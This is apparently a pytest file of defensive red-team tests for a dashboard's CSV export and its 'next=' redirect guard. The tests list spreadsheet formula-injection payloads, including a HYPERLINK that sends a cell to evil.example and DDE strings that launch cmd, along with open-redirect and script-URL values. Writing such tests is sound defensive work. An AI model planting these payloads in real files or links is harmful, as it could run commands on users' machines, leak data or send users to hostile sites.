"""Red-team attacks on the dashboards that the other suites do not make: a table downloaded
as CSV whose cells a spreadsheet would run as formulas, and more ``next=`` spellings that
browsers follow off site."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from twinlab.apps.guard import same_site
from twinlab.apps.takeaways import to_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_downloaded_table_runs_no_formula_in_a_spreadsheet():
    """A text cell (an arm's or a setting's name, a label) starting with ``= + - @`` or a
    tab is run by Excel / LibreOffice when the CSV is opened: each is made text with a
    leading ``'``; numbers, negative ones included, are kept as numbers."""
    table = pd.DataFrame(
        {
            "arm": FORMULAS,
            "dose": [-1.5, 0.0, 2.0, 3.0, 4.0, 5.0],
            "label": ["-0.25", "A", "b-c", "", None, "x=1"],
        }
    )
    table[FORMULAS[0]] = 1  # a column name is a cell too
    back = pd.read_csv(io.StringIO(to_csv(table).read()), keep_default_na=False, dtype=str)
    for cell in [*back["arm"], *back.columns]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert list(back["arm"]) == ["'" + f for f in FORMULAS]
    assert list(back["dose"]) == ["-1.5", "0.0", "2.0", "3.0", "4.0", "5.0"]
    assert list(back["label"]) == ["-0.25", "A", "b-c", "", "", "x=1"]


@pytest.mark.parametrize(
    "next_url",
    ["//evil.example", "/\\evil.example", "https://evil.example", "https:evil.example",
     "javascript:alert(1)", "\\\\evil.example", " //evil.example", "/\x00//evil.example",
     "/\n/evil.example", "/\x7f/evil.example", "http:/evil.example", "evil.example",
     "/\\/evil.example", "//\\evil.example", "data:text/html,<script>alert(1)</script>", ""],
)  # fmt: skip
def test_no_spelling_of_another_site_passes_as_a_next_page(next_url):
    assert not same_site(next_url)


@pytest.mark.parametrize("next_url", ["/", "/cohort", "/whatif?dose=5&arm=A", "/reports/a.html"])
def test_same_site_pages_pass_as_a_next_page(next_url):
    assert same_site(next_url)
